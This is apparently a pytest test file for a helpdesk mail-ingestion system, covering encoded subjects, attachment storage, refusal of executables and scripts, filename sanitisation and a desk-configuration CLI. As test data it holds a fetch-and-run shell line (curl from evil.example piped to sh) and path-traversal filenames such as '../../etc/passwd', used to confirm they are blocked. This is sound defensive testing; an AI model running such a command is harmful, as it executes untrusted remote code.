        ("=?UTF-8?B?" + _b("Rückfrage zu Rechnung") + "?=", "Rückfrage zu Rechnung"),
        ("=?utf-8?q?R=C3=BCckfrage_zu_Rechnung?=", "Rückfrage zu Rechnung"),
        (
            "=?ISO-8859-1?Q?R=FCckfrage?= zu =?UTF-8?B?" + _b("Rechnung März") + "?=",
            "Rückfrage zu Rechnung März",
        ),
        # Adjacent encoded words: the space between them is not text.
        ("=?UTF-8?Q?Gr=C3=BC=C3=9Fe?=   =?UTF-8?Q?_aus_K=C3=B6ln?=", "Grüße aus Köln"),
        # A multi-byte character split over two words (Outlook and PHP mailers do it).
        (
            "=?UTF-8?B?"
            + base64.b64encode("Grüße".encode()[:3]).decode()
            + "?= =?UTF-8?B?"
            + base64.b64encode("Grüße".encode()[3:]).decode()
            + "?=",
            "Grüße",
        ),
        ("=?UTF-8?Q?Gr=C3?= =?UTF-8?Q?=BC=C3=9Fe?=", "Grüße"),
        # Folded over lines, as long subjects are.
        (
            "=?UTF-8?Q?R=C3=BCckfrage_zu?=\r\n =?UTF-8?Q?_Rechnung_4711?=\r\n\tund Mahnung",
            "Rückfrage zu Rechnung 4711 und Mahnung",
        ),
        ("AW: =?windows-1252?Q?=84Angebot=93_=96_Preis?=", "AW: „Angebot“ – Preis"),
        ("=?koi8-r?B?" + _b("Привет", "koi8-r") + "?=", "Привет"),
        ("=?ISO-2022-JP?B?" + _b("日本語", "iso-2022-jp") + "?=", "日本語"),
        ("=?utf-8*de?Q?Gr=C3=BC=C3=9Fe?=", "Grüße"),  # RFC 2231 language in an encoded word
        ("=?x-unknown?Q?Hello?=", "Hello"),
    ],
    ids=[
        "B",
        "Q",
        "mixed-charsets",
        "adjacent",
        "split-B",
        "split-Q",
        "folded",
        "windows-1252",
        "koi8-r",
        "iso-2022-jp",
        "language",
        "unknown-charset",
    ],
)
def test_rfc2047_subjects(header: str, expected: str, session_factory: Factory, cfg: Config) -> None:
    raw = (
        crlf("From: a@customer.example\nTo: support@example.com\n")
        + f"Subject: {header}\r\n".encode()
        + crlf("Message-ID: <enc@customer.example>\n\nbody\n")
    )
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    with session_factory() as s:
        assert tickets(s)[0].subject == expected
        assert messages(s)[0].subject == expected


# --- attachments ------------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(64))
PE = b"MZ" + b"\x90" * 58 + (0x40).to_bytes(4, "little") + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def part(
    data: bytes,
    content_type: str,
    disposition: str | None = "attachment",
    *,
    headers: str = "",
) -> bytes:
    head = f"Content-Type: {content_type}\nContent-Transfer-Encoding: base64\n{headers}"
    if disposition is not None:
        head += f"Content-Disposition: {disposition}\n"
    return crlf(head + "\n") + base64.encodebytes(data).replace(b"\n", b"\r\n")


def multipart(
    *parts: bytes,
    text: str = "See the attachment.\n",
    message_id: str = "<att@customer.example>",
    subject: str = "attachments",
    subtype: str = "mixed",
) -> bytes:
    raw = crlf(
        "From: Alice Example <alice@customer.example>\nTo: support@example.com\n"
        f"Subject: {subject}\nMessage-ID: {message_id}\nMIME-Version: 1.0\n"
        f'Content-Type: multipart/{subtype}; boundary="b0undary"\n\n'
        f"--b0undary\nContent-Type: text/plain; charset=utf-8\n\n{text}"
    )
    for p in parts:
        raw += b"\r\n--b0undary\r\n" + p
    return raw + b"\r\n--b0undary--\r\n"


def attachment_rows(factory: Factory) -> list[Attachment]:
    with factory() as s:
        rows = list(s.scalars(select(Attachment).order_by(Attachment.id)))
        s.expunge_all()
    return rows


def test_attachments_are_stored_under_their_sha256(session_factory: Factory, cfg: Config) -> None:
    raw = multipart(part(PDF, "application/pdf", 'attachment; filename="scan.pdf"'))
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    [row] = attachment_rows(session_factory)
    digest = hashlib.sha256(PDF).hexdigest()
    assert (row.filename, row.content_type, row.size, row.sha256) == (
        "scan.pdf",
        "application/pdf",
        len(PDF),
        digest,
    )
    assert row.refused_reason is None and row.inline is False
    path = path_of(cfg.attachment_dir, digest)
    assert path == Path(cfg.attachment_dir) / digest[:2] / digest[2:4] / digest
    assert path.read_bytes() == PDF
    assert stored_files(cfg) == [path]


def test_the_same_file_on_two_messages_is_stored_once(session_factory: Factory, cfg: Config) -> None:
    for n in (1, 2):
        raw = multipart(
            part(PDF, "application/pdf", f'attachment; filename="copy{n}.pdf"'),
            message_id=f"<copy{n}@customer.example>",
            subject=f"copy {n}",
        )
        assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    rows = attachment_rows(session_factory)
    assert [r.filename for r in rows] == ["copy1.pdf", "copy2.pdf"]
    assert rows[0].sha256 == rows[1].sha256 and rows[0].message_id != rows[1].message_id
    assert len(stored_files(cfg)) == 1


@pytest.mark.parametrize(
    ("data", "content_type", "filename", "reason"),
    [
        (b"harmless bytes", "application/octet-stream", "setup.exe", "executable or script (.exe) refused"),
        (PE, "application/pdf", "invoice.pdf", "Windows executable content refused (named .pdf)"),
        (ELF, "application/octet-stream", "tool", "ELF executable content refused"),
        (SCRIPT, "text/plain", "readme.txt", "script content refused (named .txt)"),
        (b"alert(1)", "application/octet-stream", "app.js", "executable or script (.js) refused"),
        (b"alert(1)", "application/javascript", "app.dat", "executable or script (application/javascript)"),
        (PE, "application/octet-stream", "invoice\u202efdp.exe", "refused"),
    ],
    ids=["exe", "pe-named-pdf", "elf", "shebang", "js", "js-type", "rtl-override"],
)
def test_executables_and_scripts_are_refused_and_recorded(
    data: bytes, content_type: str, filename: str, reason: str, session_factory: Factory, cfg: Config
) -> None:
    encoded = filename if filename.isascii() else "utf-8''" + "".join(f"%{b:02X}" for b in filename.encode())
    disposition = (
        f'attachment; filename="{filename}"' if filename.isascii() else f"attachment; filename*={encoded}"
    )
    raw = multipart(
        part(PDF, "application/pdf", 'attachment; filename="ok.pdf"'), part(data, content_type, disposition)
    )
    result = deliver(session_factory, cfg, raw, SUPPORT)
    assert result.outcome == "created" and result.ticket_number  # the mail is not lost over it
    kept, refused = attachment_rows(session_factory)
    assert kept.refused_reason is None
    assert refused.refused_reason is not None and reason in refused.refused_reason
    assert "\u202e" not in refused.filename
    assert refused.size == len(data)
    assert refused.sha256 is not None and not path_of(cfg.attachment_dir, refused.sha256).exists()
    assert stored_files(cfg) == [path_of(cfg.attachment_dir, kept.sha256 or "")]
    with session_factory() as s:
        [m] = messages(s)
        assert any(refused.filename in note and "refused" in note for note in m.notes), m.notes


def test_desk_allowed_extensions(session_factory: Factory, cfg: Config) -> None:
    set_desk(session_factory, allowed_extensions="pdf,png,sh")
    raw = multipart(
        part(PDF, "application/pdf", 'attachment; filename="a.PDF"'),
        part(
            b"PK\x03\x04",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            'attachment; filename="b.docx"',
        ),
        part(b"data", "application/octet-stream", 'attachment; filename="noext"'),
        part(SCRIPT, "application/x-sh", 'attachment; filename="fix.sh"'),  # listed by the desk itself
        part(PE, "application/octet-stream", 'attachment; filename="c.png"'),  # a program, whatever its name
    )
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    rows = {r.filename: r.refused_reason for r in attachment_rows(session_factory)}
    assert rows["a.PDF"] is None
    assert rows["b.docx"] == ".docx is not allowed on this desk (allowed: pdf, png, sh)"
    assert rows["noext"] == "a file without extension is not allowed on this desk (allowed: pdf, png, sh)"
    assert rows["fix.sh"] is None
    assert rows["c.png"] is None  # the desk allows .png explicitly: it is trusted with its own list


def test_desk_max_attachment_size(session_factory: Factory, cfg: Config) -> None:
    set_desk(session_factory, max_attachment_mb=1)
    big = bytes(range(256)) * (6 * 1024)  # 1,572,864 bytes: 1.6 MB of 1,000,000, rounded up
    raw = multipart(
        part(big, "application/zip", 'attachment; filename="big.zip"'),
        part(PDF, "application/pdf", 'attachment; filename="small.pdf"'),
    )
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    big_row, small_row = attachment_rows(session_factory)
    assert big_row.refused_reason == "larger than the desk's limit of 1 MB (1.6 MB)"
    assert big_row.size == len(big)
    assert small_row.refused_reason is None
    assert len(stored_files(cfg)) == 1


def test_a_30_mb_attachment_is_refused_by_the_default_limit(session_factory: Factory, cfg: Config) -> None:
    huge = b"\x00\x01\x02\x03" * (30 * 1024 * 1024 // 4)
    raw = multipart(part(huge, "application/zip", 'attachment; filename="backup.zip"'))
    result = deliver(session_factory, cfg, raw, SUPPORT)
    assert result.outcome == "created" and result.ticket_number
    [row] = attachment_rows(session_factory)
    assert row.refused_reason == "larger than the desk's limit of 25 MB (31.5 MB)"  # 30 MiB
    assert row.size == len(huge)
    assert stored_files(cfg) == []
    with session_factory() as s:
        assert "See the attachment." in messages(s)[0].text


@pytest.mark.parametrize(
    ("disposition", "content_type", "expected"),
    [
        ('attachment; filename="../../etc/passwd"', "text/plain", "passwd"),
        # Escaped as MIME quoting wants, and bare as Outlook writes them.
        ('attachment; filename="..\\\\..\\\\boot.ini"', "text/plain", "boot.ini"),
        ('attachment; filename="..\\..\\boot.ini"', "text/plain", "boot.ini"),
        ('attachment; filename="C:\\\\Users\\\\alice\\\\report.pdf"', "application/pdf", "report.pdf"),
        ('attachment; filename="C:\\Users\\alice\\Start Menu\\report.pdf"', "application/pdf", "report.pdf"),
        ('attachment; filename="my \\"quoted\\" name.pdf"', "application/pdf", 'my "quoted" name.pdf'),
        ("attachment; filename*=UTF-8''a%01b%0Ac%09d%7Fe%E2%80%8B.pdf", "application/pdf", "a b c d e.pdf"),
        ("attachment; filename*=UTF-8''Rech%E2%80%8Bnung%E2%80%AE.pdf", "application/pdf", "Rechnung.pdf"),
        ('attachment; filename=""', "image/png", "attachment-1.png"),
        ("attachment", "application/pdf", "attachment-1.pdf"),
        ('attachment; filename=".."', "application/pdf", "attachment-1.pdf"),
        ('attachment; filename=".hidden.pdf"', "application/pdf", "hidden.pdf"),
    ],
    ids=[
        "unix-traversal",
        "windows-traversal-escaped",
        "windows-traversal-bare",
        "windows-path-escaped",
        "windows-path-bare",
        "escaped-quotes",
        "control-chars",
        "invisible-chars",
        "empty",
        "missing",
        "dots",
        "leading-dot",
    ],
)
def test_filenames_are_sanitised(
    disposition: str, content_type: str, expected: str, session_factory: Factory, cfg: Config
) -> None:
    raw = multipart(part(b"%PDF-1.4 harmless", content_type, disposition))
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    [row] = attachment_rows(session_factory)
    assert row.filename == expected
    assert row.refused_reason is None


def test_rtl_override_is_removed_from_the_name(session_factory: Factory, cfg: Config) -> None:
    name = "photo\u202egpj.pdf"
    encoded = "".join(f"%{b:02X}" for b in name.encode())
    raw = multipart(part(PDF, "application/pdf", f"attachment; filename*=UTF-8''{encoded}"))
    deliver(session_factory, cfg, raw, SUPPORT)
    [row] = attachment_rows(session_factory)
    assert "\u202e" not in row.filename and row.filename.endswith(".pdf")


def test_a_300_character_name_keeps_its_extension(session_factory: Factory, cfg: Config) -> None:
    name = "Quarterly report " + "x" * 283 + ".xlsx"
    raw = multipart(part(b"PK\x03\x04", "application/octet-stream", f'attachment; filename="{name}"'))
    deliver(session_factory, cfg, raw, SUPPORT)
    [row] = attachment_rows(session_factory)
    assert len(row.filename) == 255
    assert row.filename.startswith("Quarterly report xxx") and row.filename.endswith(".xlsx")


@pytest.mark.parametrize(
    ("disposition", "expected"),
    [
        # RFC 2231 continuations with charset and language, as Thunderbird writes long names.
        (
            "attachment;\n filename*0*=UTF-8''Rechnung%20M%C3%A4;\n filename*1*=rz%202026%20%E2%80%93%20;\n"
            ' filename*2="final.pdf"',
            "Rechnung März 2026 – final.pdf",
        ),
        ("attachment; filename*=iso-8859-1'de'Gr%FC%DFe.pdf", "Grüße.pdf"),
        (
            'attachment;\n filename*0="very long name, part one ";\n filename*1="and part two.pdf"',
            "very long name, part one and part two.pdf",
        ),
        # RFC 2047 inside the quoted name: not standard, Outlook and Gmail write it all the same.
        ('attachment; filename="=?UTF-8?B?' + _b("Angebot Straße.pdf") + '?="', "Angebot Straße.pdf"),
    ],
    ids=["rfc2231-continuation", "rfc2231-latin1-language", "rfc2231-plain-continuation", "rfc2047-in-name"],
)
def test_encoded_filenames(disposition: str, expected: str, session_factory: Factory, cfg: Config) -> None:
    raw = multipart(part(PDF, "application/pdf", disposition))
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    [row] = attachment_rows(session_factory)
    assert row.filename == expected


def test_filename_from_the_content_type_name_parameter(session_factory: Factory, cfg: Config) -> None:
    raw = multipart(part(PDF, 'application/pdf; name="=?UTF-8?Q?Rechnung_M=C3=A4rz.pdf?="', None))
    deliver(session_factory, cfg, raw, SUPPORT)
    [row] = attachment_rows(session_factory)
    assert row.filename == "Rechnung März.pdf"


def test_inline_cid_image_is_kept_and_linked(session_factory: Factory, cfg: Config) -> None:
    html = '<p>The error:</p><p><img src="cid:image001.png@01DA1234.ABCDEF00" alt="error"></p>'
    raw = (
        crlf(
            "From: Alice Example <alice@customer.example>\nTo: support@example.com\nSubject: screenshot\n"
            "Message-ID: <cid@customer.example>\nMIME-Version: 1.0\n"
            'Content-Type: multipart/related; boundary="rel"; type="multipart/alternative"\n\n'
            '--rel\nContent-Type: multipart/alternative; boundary="alt"\n\n'
            "--alt\nContent-Type: text/plain; charset=utf-8\n\n"
            "The error:\n[cid:image001.png@01DA1234.ABCDEF00]\n"
            f"--alt\nContent-Type: text/html; charset=utf-8\n\n{html}\n--alt--\n\n--rel\n"
        )
        + part(
            PNG,
            'image/png; name="image001.png"',
            'inline; filename="image001.png"',
            headers="Content-ID: <image001.png@01DA1234.ABCDEF00>\n",
        )
        + b"\r\n--rel--\r\n"
    )
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    [row] = attachment_rows(session_factory)
    assert (row.filename, row.inline, row.content_id) == (
        "image001.png",
        True,
        "image001.png@01DA1234.ABCDEF00",
    )
    assert row.refused_reason is None
    assert path_of(cfg.attachment_dir, row.sha256 or "").read_bytes() == PNG
    with session_factory() as s:
        [m] = messages(s)
        assert m.html is not None and f'src="cid:{row.content_id}"' in m.html


def test_inline_image_with_content_id_and_no_disposition(session_factory: Factory, cfg: Config) -> None:
    raw = multipart(
        part(PNG, "image/png", None, headers="Content-ID: <logo@customer.example>\n"), subtype="related"
    )
    deliver(session_factory, cfg, raw, SUPPORT)
    [row] = attachment_rows(session_factory)
    assert row.inline is True and row.content_id == "logo@customer.example"
    assert row.filename.endswith(".png")


def test_nested_message_is_kept_whole_as_an_eml(session_factory: Factory, cfg: Config) -> None:
    inner = crlf(
        "From: Carol <carol@vendor.example>\nTo: alice@customer.example\n"
        "Subject: =?UTF-8?Q?Invoice_03/2026_f=C3=BCr_M=C3=A4rz_with_a_very_long_subject_line"
        "_that_is_folded?=\n"
        "Message-ID: <inner@vendor.example>\nDKIM-Signature: v=1; a=rsa-sha256; d=vendor.example;\n"
        "\th=from:to:subject; b=AAAA\nMIME-Version: 1.0\nContent-Type: text/plain; charset=iso-8859-1\n"
        "Content-Transfer-Encoding: 8bit\n\n"
    ) + "Grüße aus München\r\n".encode("latin-1")
    raw = multipart(
        crlf("Content-Type: message/rfc822\nContent-Disposition: attachment\n\n") + inner,
        text="Forwarding the vendor's mail.\n",
    )
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    [row] = attachment_rows(session_factory)
    assert row.content_type == "message/rfc822"
    assert row.filename == "Invoice 03_2026 für März with a very long subject line that is folded.eml"
    assert row.refused_reason is None
    # Written back as it came (headers not refolded or re-encoded): a signature on it still verifies.
    assert path_of(cfg.attachment_dir, row.sha256 or "").read_bytes() == inner
    with session_factory() as s:
        [m] = messages(s)
        assert m.text.strip() == "Forwarding the vendor's mail."
        assert "München" not in m.text  # the forwarded mail is not mixed into this one


def test_nested_message_without_subject(session_factory: Factory, cfg: Config) -> None:
    inner = crlf("From: carol@vendor.example\nTo: alice@customer.example\n\nno subject here\n")
    raw = multipart(crlf("Content-Type: message/rfc822\n\n") + inner)
    deliver(session_factory, cfg, raw, SUPPORT)
    [row] = attachment_rows(session_factory)
    assert row.filename == "message.eml"


def test_winmail_dat_is_kept_and_noted(session_factory: Factory, cfg: Config) -> None:
    tnef = b"\x78\x9f\x3e\x22" + b"\x00" * 64
    raw = multipart(
        part(tnef, 'application/ms-tnef; name="winmail.dat"', 'attachment; filename="winmail.dat"')
    )
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    [row] = attachment_rows(session_factory)
    assert (row.filename, row.content_type, row.refused_reason) == (
        "winmail.dat",
        "application/ms-tnef",
        None,
    )
    assert path_of(cfg.attachment_dir, row.sha256 or "").read_bytes() == tnef
    with session_factory() as s:
        [m] = messages(s)
        assert any("winmail.dat" in note and "TNEF" in note for note in m.notes), m.notes


def test_apple_mail_split_text_parts_are_joined(session_factory: Factory, cfg: Config) -> None:
    """Apple Mail puts the text after an inline image into a text part of its own."""
    raw = (
        crlf(
            "From: Alice Example <alice@customer.example>\nTo: support@example.com\nSubject: photo\n"
            "Message-ID: <apple-split@icloud.com>\nMime-Version: 1.0 (Mac OS X Mail 16.0)\n"
            'Content-Type: multipart/mixed; boundary="Apple-Mail=_1"\n\n'
            "--Apple-Mail=_1\nContent-Transfer-Encoding: 7bit\n"
            "Content-Type: text/plain;\n\tcharset=us-ascii\n\n"
            "Here is the photo of the printer:\n\n--Apple-Mail=_1\n"
        )
        + part(PNG, 'image/png;\n\tname="IMG_0042.png"', 'inline;\n\tfilename="IMG_0042.png"')
        + crlf(
            "\n--Apple-Mail=_1\nContent-Transfer-Encoding: 7bit\n"
            "Content-Type: text/plain;\n\tcharset=us-ascii\n\n"
            "And the smoke comes from the left side.\n\nAlice\n--Apple-Mail=_1--\n"
        )
    )
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    with session_factory() as s:
        [m] = messages(s)
        assert "Here is the photo of the printer:" in m.text
        assert "And the smoke comes from the left side." in m.text
        assert m.text.index("photo of the printer") < m.text.index("smoke comes")
        assert "smoke comes from the left side" in m.visible_text
        [att] = m.attachments
        assert (att.filename, att.inline) == ("IMG_0042.png", True)


def test_attachment_text_part_is_not_mixed_into_the_body(session_factory: Factory, cfg: Config) -> None:
    raw = multipart(part(b"log line 1\nlog line 2\n", "text/plain", 'attachment; filename="server.log"'))
    deliver(session_factory, cfg, raw, SUPPORT)
    with session_factory() as s:
        [m] = messages(s)
        assert "log line" not in m.text
        assert [a.filename for a in m.attachments] == ["server.log"]


@pytest.mark.parametrize(
    "inner",
    [
        "Content-Type: multipart/alternative\n\nthe printer is on fire\n",
        'Content-Type: multipart/related; boundary="gone"\n\nthe printer is on fire\n',
    ],
    ids=["no-boundary", "boundary-never-used"],
)
def test_a_nested_multipart_without_usable_boundary_keeps_its_text(
    inner: str, session_factory: Factory, cfg: Config
) -> None:
    """The stdlib leaves it one unparsed part (and its get_body raises over it): the text must not be lost,
    nor the text and attachments beside it."""
    raw = multipart(
        crlf(inner),
        part(PDF, "application/pdf", 'attachment; filename="a.pdf"'),
        text="first part\n",
    )
    assert deliver(session_factory, cfg, raw, SUPPORT).outcome == "created"
    with session_factory() as s:
        [m] = messages(s)
        assert "first part" in m.text and "the printer is on fire" in m.text
        assert [a.filename for a in m.attachments] == ["a.pdf"]


@pytest.mark.parametrize("charset", ["utf\x008", "\x00"])
def test_a_nul_in_the_charset_name_is_not_a_crash(charset: str) -> None:
    raw = charset_mail(f'text/plain; charset="{charset}"', "Grüße\r\n".encode())
    assert parse_mail(raw).text == "Grüße\n"


# --- maildctl ---------------------------------------------------------------------------------------


def ok_json(proc: subprocess.CompletedProcess[str]) -> Any:
    return json.loads(ok(proc))


def test_ticket_show_json_reports_threading_visible_text_and_attachments(
    session_factory: Factory, cfg: Config, config_file: Path
) -> None:
    raw = multipart(
        part(PDF, "application/pdf", 'attachment; filename="scan.pdf"'),
        part(PE, "application/octet-stream", 'attachment; filename="tool.exe"'),
        part(PNG, "image/png", "inline", headers="Content-ID: <logo@customer.example>\n"),
        text="See the attachments.\n\n"
        "On Fri, Mar 6, 2026 at 5:00 PM Bob <bob@customer.example> wrote:\n> old\n",
        message_id="<first@customer.example>",
    )
    first = deliver(session_factory, cfg, raw, SUPPORT)
    reply = mail(
        subject=f"Re: [{first.ticket_number}] attachments",
        body="Any news?\n\n> See the attachments.\n",
        message_id="<second@customer.example>",
        extra=[("In-Reply-To", "<first@customer.example>")],
    )
    assert deliver(session_factory, cfg, reply, SUPPORT).outcome == "replied"
    assert first.ticket_number is not None
    data = ok_json(ctl(config_file, "ticket", "show", first.ticket_number, "--json"))
    opening, answer = data["messages"]
    assert opening["threaded_by"] == "new"
    assert answer["threaded_by"] == "references"
    assert opening["visible_text"] == "See the attachments."
    assert "> old" in opening["text"]
    assert answer["visible_text"] == "Any news?"
    pdf, exe, png = opening["attachments"]
    assert pdf == {
        "name": "scan.pdf",
        "size": len(PDF),
        "type": "application/pdf",
        "sha256": hashlib.sha256(PDF).hexdigest(),
        "stored": True,
        "refused_reason": None,
        "inline": False,
        "content_id": None,
    }
    assert exe["name"] == "tool.exe" and exe["stored"] is False
    assert exe["refused_reason"] == "Windows executable content refused (named .exe)"
    assert exe["size"] == len(PE) and exe["sha256"] == hashlib.sha256(PE).hexdigest()
    assert (png["inline"], png["content_id"], png["stored"]) == (True, "logo@customer.example", True)
    assert png["type"] == "image/png" and png["name"].endswith(".png")
    assert answer["attachments"] == []


def test_desk_set_options_and_desk_show(session_factory: Factory, config_file: Path) -> None:
    before = ok_json(ctl(config_file, "desk", "show", "support", "--json", subprocess=True))
    assert (before["replies_only"], before["clients_only"], before["auto_reply"]) == (False, False, True)
    assert (before["allowed_extensions"], before["max_attachment_mb"]) == ([], 25)

    proc = ctl(
        config_file,
        "desk",
        "set",
        "support",
        "--replies-only",
        "--clients-only",
        "--allowed-extensions",
        "pdf, .PNG",
        "--max-attachment-mb",
        "10",
        "--no-auto-reply",
    )
    assert proc.returncode == 0, proc.stderr
    after = ok_json(ctl(config_file, "desk", "show", "support", "--json"))
    assert (after["replies_only"], after["clients_only"], after["auto_reply"]) == (True, True, False)
    assert (after["allowed_extensions"], after["max_attachment_mb"]) == (["pdf", "png"], 10)
    with session_factory() as s:
        desk = s.scalars(select(Desk).where(Desk.name == "support")).one()
        assert desk.allowed_extensions == "pdf,png"

    # Back off again; an empty list allows any file but executables and scripts.
    assert (
        ctl(config_file, "desk", "set", "support", "--no-replies-only", "--allowed-extensions", "").returncode
        == 0
    )
    again = ok_json(ctl(config_file, "desk", "show", "support", "--json"))
    assert (again["replies_only"], again["allowed_extensions"], again["clients_only"]) == (False, [], True)


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["support", "--max-attachment-mb", "0"], "--max-attachment-mb must be between 1 and 2048, got 0"),
        (["support", "--max-attachment-mb", "5000"], "--max-attachment-mb must be between 1 and 2048"),
        (["support", "--allowed-extensions", "pdf, ../x"], "invalid --allowed-extensions"),
        (["support", "--allowed-extensions", "p*f"], "is not an extension"),
        (["support"], "nothing to change"),
        (["nosuch", "--replies-only"], "no desk named 'nosuch'"),
    ],
    ids=["size-zero", "size-huge", "extension-path", "extension-glob", "no-option", "unknown-desk"],
)
def test_desk_set_refusals(
    args: list[str], expected: str, session_factory: Factory, config_file: Path
) -> None:
    line = one_line_error(ctl(config_file, "desk", "set", *args))
    assert expected in line
    with session_factory() as s:
        desk = s.scalars(select(Desk).where(Desk.name == "support")).one()
        assert (desk.max_attachment_mb, desk.allowed_extensions, desk.replies_only) == (25, "", False)


def test_desk_set_with_a_non_number_size_is_refused(config_file: Path) -> None:
    proc = ctl(config_file, "desk", "set", "support", "--max-attachment-mb", "ten")
    assert proc.returncode != 0 and proc.stdout == ""
    assert "Traceback" not in proc.stderr
    assert "--max-attachment-mb" in proc.stderr and "invalid int value" in proc.stderr
